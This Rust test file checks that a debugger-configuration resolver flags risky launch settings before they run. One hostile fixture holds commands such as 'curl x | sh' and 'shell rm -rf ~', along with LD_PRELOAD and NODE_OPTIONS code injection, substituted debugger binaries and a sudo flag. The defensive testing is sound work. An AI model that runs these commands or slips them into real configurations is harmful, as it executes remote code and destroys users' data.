//! What a person is shown before a configuration may run.

use expect_test::{Expect, expect};
use serde_json::{Value, json};

use super::super::*;
use super::{context, object};

fn check(mut written: Value, expected: Expect) {
    written["name"] = json!("x");
    let resolved = resolve_configuration(&object(written), &[], &context()).unwrap();
    let mut told = String::new();
    for row in runs(&resolved) {
        let warning = row.warning.map(|warning| format!("  ! {warning}")).unwrap_or_default();
        told.push_str(&format!("{:?} {}: {}{warning}\n", row.role, row.key, row.text));
    }
    expected.assert_eq(&told);
}

#[test]
fn a_hostile_configuration_hides_nothing() {
    check(
        json!({
            "type": "cppdbg", "request": "launch", "program": "/bin/sh", "args": ["-c", "curl x | sh"],
            "cwd": "${workspaceFolder}/../..", "miDebuggerPath": "./evil", "debuggerPath": "./worse",
            "setupCommands": [{"text": "shell rm -rf ~"}], "environment": [{"name": "LD_PRELOAD", "value": "./x.so"}],
            "env": {"HOME": null, "NODE_OPTIONS": "--require ./x.js", "COLOR": "1"},
            "runtimeExecutable": "./node", "pythonPath": "./python", "python": ["./py", "-X"],
            "pipeTransport": {"pipeProgram": "ssh", "pipeArgs": ["host"]},
            "preRunCommands": ["platform shell id"], "someNewToolPath": "./tool", "debugServer": 4711,
            "preLaunchTask": "build", "postDebugTask": {"type": "npm", "script": "x"},
            "serverReadyAction": {"action": "openExternally"}, "logging": {"trace": true}, "stopAtEntry": false,
            "sudo": true, "useBundler": false,
        }),
        expect![[r#"
            Adapter type: cppdbg (launch)
            Address debugServer: port 4711  ! whatever listens there is taken for the debugger
            Program program: /bin/sh
            Arguments args: -c 'curl x | sh'
            Folder cwd: /work/shop/../..  ! it lies outside of the workspace
            Helper miDebuggerPath: ./evil  ! the configuration chooses this instead of what is installed
            Helper debuggerPath: ./worse  ! the configuration chooses this instead of what is installed
            DebuggerCommands setupCommands: [{"text":"shell rm -rf ~"}]  ! a debugger's console can start programs
            Environment environment: LD_PRELOAD=./x.so  ! it decides which code is run
            Environment env: HOME is taken out
            Environment env: NODE_OPTIONS=--require ./x.js  ! it decides which code is run
            Environment env: COLOR=1
            Helper runtimeExecutable: ./node  ! the configuration chooses this instead of what is installed
            Helper pythonPath: ./python  ! the configuration chooses this instead of what is installed
            Helper python: ./py -X  ! the configuration chooses this instead of what is installed
            Helper pipeTransport: {"pipeProgram":"ssh","pipeArgs":["host"]}  ! the configuration chooses this instead of what is installed
            DebuggerCommands preRunCommands: 'platform shell id'  ! a debugger's console can start programs
            Helper someNewToolPath: ./tool  ! the configuration chooses this instead of what is installed
            Helper sudo: true  ! it runs with the rights of root
            Task preLaunchTask: build
            Task postDebugTask: {"type":"npm","script":"x"}
            WhenReady serverReadyAction: openExternally the address when the output matches `listening on.* (https?://\S+|[0-9]+)`
        "#]],
    );
}

#[test]
fn an_ordinary_configuration_is_short() {
    check(
        json!({"type": "python", "request": "launch", "program": "${file}", "console": "integratedTerminal", "cwd": "${workspaceFolder}/src"}),
        expect![[r#"
            Adapter type: python (launch)
            Program program: /work/shop/src/deep/cart.test.py
            Folder cwd: /work/shop/src
        "#]],
    );
    check(
        json!({"type": "lldb", "request": "attach", "pid": 4711}),
        expect![[r#"
        Adapter type: lldb (attach)
        Process pid: 4711  ! everything in that process can be read and changed
    "#]],
    );
}

#[test]
fn environment_files_from_elsewhere_are_marked() {
    let place = super::folder(&[("repo/.env", "A=1"), ("secret.env", "B=2")]);
    let ctx = Context::new(&place.path().join("repo"), std::collections::BTreeMap::new());
    for (path, marked) in [("${workspaceFolder}/.env", false), ("../secret.env", true)] {
        let written = json!({"name": "x", "type": "node", "request": "launch", "envFile": path});
        let rows = runs(&resolve_configuration(&object(written), &[], &ctx).unwrap());
        let row = rows.iter().find(|row| row.role == RunRole::EnvironmentFile).unwrap();
        assert_eq!(row.warning.is_some(), marked, "{row:?}");
    }
}
